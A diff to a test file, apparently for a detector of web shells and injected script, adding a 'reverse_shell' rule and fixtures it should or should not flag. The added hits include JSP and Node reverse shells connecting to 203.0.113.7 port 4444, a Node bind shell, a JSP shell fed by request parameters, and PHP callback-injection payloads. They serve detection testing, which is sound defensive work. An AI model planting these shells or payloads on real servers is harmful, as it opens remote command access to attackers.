@@ -12,6 +12,7 @@ const OF_REQUEST = new Set([
   'php_eval_download',
   'php_preloads_library',
   'php_runs_picture_text',
+  'reverse_shell',
 ])
 const found = (language: ScriptLanguage, text: string): readonly string[] =>
   readScript(text, language)
@@ -19,6 +20,42 @@ const found = (language: ScriptLanguage, text: string): readonly string[] =>
     .filter((id) => OF_REQUEST.has(id))
 
 const HITS: readonly (readonly [string, string, ScriptLanguage, string])[] = [
+  [
+    'a shell without a command that a thread feeds',
+    'request_decides_command',
+    'javascript',
+    '<%@page import="java.io.*"%><%! class Runs extends Thread { BufferedWriter in; public void run() { Process p = Runtime.getRuntime().exec("/bin/sh"); in = new BufferedWriter(new OutputStreamWriter(p.getOutputStream())); } } %><% Runs r = (Runs) session.getAttribute("r"); r.in.write(request.getParameter("line")); %>',
+  ],
+  [
+    'a shell of Java tied to a connection',
+    'reverse_shell',
+    'javascript',
+    '<%@page import="java.net.*"%><% Socket s = new Socket("203.0.113.7", 4444); Process p = Runtime.getRuntime().exec("cmd.exe"); new Pump(p.getInputStream(), s.getOutputStream()).start(); new Pump(s.getInputStream(), p.getOutputStream()).start(); %>',
+  ],
+  [
+    'a shell of Node tied to a connection',
+    'reverse_shell',
+    'javascript',
+    'const net = require("net"), cp = require("child_process"); const sh = cp.spawn("/bin/sh", []); const c = new net.Socket(); c.connect(4444, "203.0.113.7", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });',
+  ],
+  [
+    'a shell of Node that listens',
+    'reverse_shell',
+    'javascript',
+    'var shell = process.platform === "win32" ? "cmd.exe" : "/bin/sh"; require("net").createServer(s => { var p = require("child_process").spawn(shell, []); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4444);',
+  ],
+  [
+    'a list in front of a name with an ending',
+    'request_reaches_made_call',
+    'php',
+    '<?php $n = $_COOKIE["n"]; array_intersect_ukey(array($_REQUEST["p"] => 1), array(1), $n."ert");',
+  ],
+  [
+    'a name in front of what is handed on to it',
+    'request_reaches_made_call',
+    'php',
+    '<?php $e = $_REQUEST["e"]; $list = array($_POST["p"] => "|.*|e"); array_walk_recursive($list, $e, "");',
+  ],
   ['an element that is called', 'request_decides_command', 'php', '<?php $f = $_COOKIE; $f[0]($f[1]);'],
   [
     'a property that a class runs',
@@ -199,6 +236,31 @@ const HITS: readonly (readonly [string, string, ScriptLanguage, string])[] = [
   ],
 ]
 const MISSES: readonly (readonly [string, ScriptLanguage, string])[] = [
+  [
+    'a shell of Java with a command of its own',
+    'javascript',
+    '<%@page import="java.io.*"%><% String[] c = {"/bin/sh", "-c", "uptime"}; Process p = Runtime.getRuntime().exec(c); out.println(read(p.getInputStream())); response.getOutputStream(); %><%= request.getParameter("lang") %>',
+  ],
+  [
+    'a program of Java that is told what the page holds',
+    'javascript',
+    '<%@page import="java.io.*"%><% Process p = Runtime.getRuntime().exec("gnuplot"); new OutputStreamWriter(p.getOutputStream()).write("plot sin(x)"); %><%= request.getParameter("lang") %>',
+  ],
+  [
+    'a shell of Node on the terminal that started it',
+    'javascript',
+    'const cp = require("child_process"); const sh = cp.spawn("/bin/sh", []); process.stdin.pipe(sh.stdin); sh.stdout.pipe(process.stdout);',
+  ],
+  [
+    'a tool of Node between a connection and a file',
+    'javascript',
+    'const net = require("net"), cp = require("child_process"); net.createServer(s => { const z = cp.spawn("gzip", ["-c"]); s.pipe(z.stdin); z.stdout.pipe(fs.createWriteStream("a.gz")); }).listen(9000);',
+  ],
+  [
+    'a function that is named in so many words',
+    'php',
+    '<?php $list = array($_POST["a"], $_POST["b"]); array_walk_recursive($list, "trim_one", $_POST["c"]);',
+  ],
   [
     'an editor for those whom another page let in',
     'php',
